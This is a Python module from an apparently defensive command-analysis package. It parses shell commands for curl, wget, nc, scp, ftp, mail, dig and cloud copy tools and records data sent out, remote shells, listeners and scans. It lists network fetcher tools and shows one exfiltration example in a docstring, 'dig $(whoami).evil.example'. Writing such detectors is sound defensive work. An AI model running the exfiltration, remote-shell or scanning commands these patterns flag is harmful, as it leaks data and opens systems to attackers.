"""What programs fetch from elsewhere, send there, and listen for."""

from __future__ import annotations

import re
from collections.abc import Callable, Mapping
from typing import Final

from oi_forbidden.acts import Verb
from oi_forbidden.command import Command
from oi_forbidden.hosts import host_of
from oi_forbidden.names import words
from oi_forbidden.places import HOLE, normal
from oi_forbidden.shell_state import Stream

FETCHERS: Final = words(
    """
    curl wget aria2c fetch lynx w3m http https ftp sftp tftp nc telnet scp rclone gsutil axel GET xh lwp-download
    """
)
"""Programs that print or store what they get from elsewhere."""


_CURL_VALUED: Final = (
    "-o -H -d -F -T -u -X -A -e -b -c -w -m -x -K -E -y -Y -r -z -C --data --data-binary --data-raw --data-ascii "
    "--data-urlencode --form --form-string --header --user --request --output --user-agent --referer --cookie "
    "--upload-file "
    "--cookie-jar --write-out --max-time --proxy --config --cert --cacert --key --retry --connect-timeout --url --json "
    "--socks5 --socks4 --socks5-hostname --resolve --interface --limit-rate --range --output-dir "
    "--preproxy --max-filesize"
)


_CURL_BODY: Final = ("-d", "--data", "--data-binary", "--data-ascii", "--data-urlencode", "--json", "--data-raw")


_URL: Final = re.compile(r"^\w[\w+.-]*://|^[\w-]+(?:\.[\w-]+)+(?::\d+)?(?:/|$)")


_REMOTE: Final = re.compile(
    r"^(?:[\w.-]+@)?(?:[\w-]+(?:\.[\w-]+)*|\[[^\]]+\]|" + HOLE + r"):(?!//|\\)|^\w+@[\w.-]+$|^" + HOLE + "@"
)


def _curl(command: Command) -> None:
    urls = [*(a for a in command.operands(_CURL_VALUED)), *command.values("--url")]
    bodies = [body for option in _CURL_BODY for body in command.values(option)]
    files = [b[1:] for b in bodies if b.startswith("@")]
    files += [
        f.partition("=")[2].lstrip("@<").partition(";")[0]
        for f in command.values("-F", "--form")
        if re.search(r"=[@<]", f)
    ]
    files += list(command.values("-T", "--upload-file"))
    unseen = [b for b in bodies if HOLE in b]
    flowing = command.flow()
    for url in urls or [HOLE]:
        if url.startswith("file://"):
            command.add_path(Verb.READ, url[7:])
            continue
        for path in files:
            _send_file(command, url, path)
        if bodies or list(command.values("-F", "--form")) or HOLE in url:
            tags = flowing - {"network"}
            told = tags if tags or not unseen else {"data"}
            command.add_address(
                Verb.SEND, url, "body" if HOLE not in url else "address", *(told if unseen or told else ())
            )
        command.add_address(Verb.FETCH, url, *(("proxied",) if command.has("--socks5", "--socks5-hostname") else ()))
    _store(command, urls, list(command.values("-o", "--output")), by_name=command.has("-O", "--remote-name"))


def _send_file(command: Command, url: str, path: str) -> None:
    if path in ("-", "."):
        tags = command.flow()
        command.add_address(Verb.SEND, url, *(tags or {"data"}), "file" if "unseen" in tags else "body")
        return
    command.add_path(Verb.READ, path)
    secret = {"secret"} if command.labels(path) & {"secret", "accounts"} else set()
    command.add_address(Verb.SEND, url, "file", *secret)


def _store(command: Command, urls: list[str], outputs: list[str], *, by_name: bool) -> None:
    """Note the files that what is fetched goes to, so that running one later is recognised."""
    state = command.shell.state
    if by_name:
        outputs = [*outputs, *(url.rstrip("/").rpartition("/")[2].partition("?")[0] for url in urls)]
    for path in outputs:
        if path and path not in ("-", "/dev/null"):
            command.add_path(Verb.WRITE, path, "fetched")
            state.files[normal(path, state.folder)] = Stream(HOLE, frozenset({"network"}))


def _wget(command: Command) -> None:
    valued = (
        "-O -o -P -a -t -T -U -i -l -A -R -D -e -w -Q --output-document --output-file --directory-prefix "
        "--user --password "
        "--header --post-data --post-file --body-data --body-file --method --user-agent --referer --tries --timeout"
    )
    urls = command.operands(valued)
    outputs = list(command.values("-O", "--output-document"))
    outputs += [a[a.index("O") + 1 :] for a in command.arguments if re.fullmatch(r"-[a-zN]+O[^ ].*", a)]
    prefixes = list(command.values("-P", "--directory-prefix"))
    for url in urls or [HOLE]:
        for path in command.values("--post-file", "--body-file"):
            _send_file(command, url, path)
        bodies = list(command.values("--post-data", "--body-data"))
        if bodies:
            tags = command.flow() - {"network"} if any(HOLE in b for b in bodies) else frozenset()
            command.add_address(Verb.SEND, url, "body", *(tags or ({"data"} if any(HOLE in b for b in bodies) else ())))
        elif HOLE in url and command.flow() - {"network", "unseen"}:
            command.add_address(Verb.SEND, url, "address", *command.flow())
        command.add_address(Verb.FETCH, url)
    if not any(o == "-" or o.startswith("-") for o in outputs):
        _store(command, urls, [*outputs], by_name=not outputs and not prefixes)


def _nc(command: Command) -> None:
    for script in command.values("-e", "-c", "--exec", "--sh-exec"):
        command.add(Verb.SHELL, "nc", "remote")
        command.shell.read_apart(script, command.line)
    operands = command.operands("-e -c -p -s -w -q -i -x -X --exec --sh-exec -I -O -T -V")
    if command.has("-l", "--listen"):
        command.add(Verb.LISTEN, " ".join([*command.values("-p"), *operands][:1]) or "a port")
    elif operands:
        scans = command.has("-z") or (len(operands) > 1 and re.search(r"\d-\d|,", operands[1]) is not None)
        spans = len(operands) > 1 and re.search(r"\d-\d", operands[-1]) is not None
        if scans and (spans or "loop" in command.tags):
            command.add_address(Verb.RUN, "scan", "scans")
        elif not scans:
            command.add_address(Verb.SEND, operands[0], "socket", *command.flow())


def _telnet(command: Command) -> None:
    operands = command.operands("-l -e -b")
    if operands:
        command.add_address(Verb.SEND, operands[0], "socket", *command.flow())


def _openssl(command: Command) -> None:
    if command.arguments[:1] == ("s_client",):
        for address in command.values("-connect"):
            command.add_address(Verb.SEND, address, "socket", *command.flow())
    elif command.arguments[:1] == ("s_server",):
        command.add(Verb.LISTEN, next(command.values("-port", "-accept"), "4433"))
    elif command.arguments[:1] == ("enc",) and "-d" not in command.arguments:
        for path in command.values("-in"):
            command.add_path(Verb.READ, path, "encrypts")
            command.add(Verb.RUN, "encrypt", *command.labels(path), *(("each",) if "each" in command.tags else ()))


def _scp(command: Command) -> None:
    operands = command.operands("-P -i -o -F -c -l -S -J")
    for script in command.values("-S"):
        command.shell.run_text(command.shell.state.files.get(script) or Stream(), command)
    if len(operands) < 2:
        return
    *sources, destination = operands
    if _REMOTE.match(destination):
        for source in sources:
            if not _REMOTE.match(source):
                command.add_path(Verb.READ, source)
        command.add_address(Verb.SEND, host_of(destination) or destination, "file")
    else:
        command.add_path(Verb.WRITE, destination, "fetched")


def _ftp(command: Command) -> None:
    hosts = command.operands("-u -p -P -b -o -c")
    text = command.stdin.text if command.stdin is not None else ""
    if not hosts:
        hosts = re.findall(r"^\s*open\s+(\S+)", text, re.MULTILINE) or [HOLE]
    sends = re.search(r"^\s*m?put\b", text, re.MULTILINE) or "put" in command.arguments or HOLE in text
    if sends or command.name in ("ftp", "tftp", "lftp"):
        command.add_address(Verb.SEND, hosts[0], "file")


def _mail(command: Command) -> None:
    addresses = [a for a in command.operands("-s -a -A -c -b -r -S -f -F -t") if "@" in a or HOLE in a]
    attached = list(command.values("-a", "-A", "--attach"))
    if command.stdin is not None or attached:
        command.add(Verb.SEND, addresses[0] if addresses else HOLE, "mail", *command.flow())


def _lookup(command: Command) -> None:
    """Names that are asked for can carry data away: ``dig $(whoami).evil.example``."""
    flowing = command.tags & {"secret", "file", "system"}
    targets = [a for a in command.arguments if HOLE in a and "." in a]
    if targets and (flowing or "loop" in command.tags):
        command.add_address(Verb.SEND, targets[0], "lookup", *flowing)


def _ping(command: Command) -> None:
    if list(command.values("-p")) and command.tags & {"secret", "file", "system"}:
        command.add_address(Verb.SEND, HOLE, "lookup", *command.tags)
    elif "loop" in command.tags and re.search(r"\d+\.\d+\.\d+\.", " ".join(command.arguments)):
        command.add(Verb.RUN, "scan", "scans")


def _aws(command: Command) -> None:
    operands = [a for a in command.arguments if not a.startswith("-")]
    if operands[:1] == ["s3"] and len(operands) > 3 and operands[1] in ("cp", "mv", "sync"):  # noqa: SIM102  (two questions: which command, which way)
        if operands[3].startswith("s3://") and not operands[2].startswith("s3://"):
            command.add_path(Verb.READ, operands[2])
            command.add(Verb.SEND, operands[3], "file")


def _rclone(command: Command) -> None:
    operands = [a for a in command.arguments if not a.startswith("-")]
    if len(operands) > 2 and operands[0] in ("copy", "sync", "move", "copyto") and ":" in operands[2]:
        command.add(Verb.SEND, operands[2], "file")


def _gsutil(command: Command) -> None:
    operands = [a for a in command.arguments if not a.startswith("-")]
    if len(operands) > 2 and operands[0] in ("cp", "rsync", "mv") and operands[-1].startswith("gs://"):
        command.add(Verb.SEND, operands[-1], "file")


def _smb(command: Command) -> None:
    if any(re.search(r"\bm?put\b", script) for script in command.values("-c", "--command")):
        command.add_address(
            Verb.SEND, command.operands("-c -U")[0].lstrip("\\/") if command.operands("-c -U") else HOLE, "file"
        )


READERS: Final[Mapping[str, Callable[[Command], object]]] = {
    "curl": _curl,
    "wget": _wget,
    "nc": _nc,
    "telnet": _telnet,
    "openssl": _openssl,
    "scp": _scp,
    "sftp": _ftp,
    "ftp": _ftp,
    "tftp": _ftp,
    "lftp": _ftp,
    **dict.fromkeys(("mail", "mailx", "mutt", "sendmail", "swaks", "msmtp", "ssmtp", "s-nail"), _mail),
    **dict.fromkeys(("dig", "nslookup", "host", "whois", "finger", "drill"), _lookup),
    "ping": _ping,
    "aws": _aws,
    "rclone": _rclone,
    "gsutil": _gsutil,
    "smbclient": _smb,
}
"""By program."""
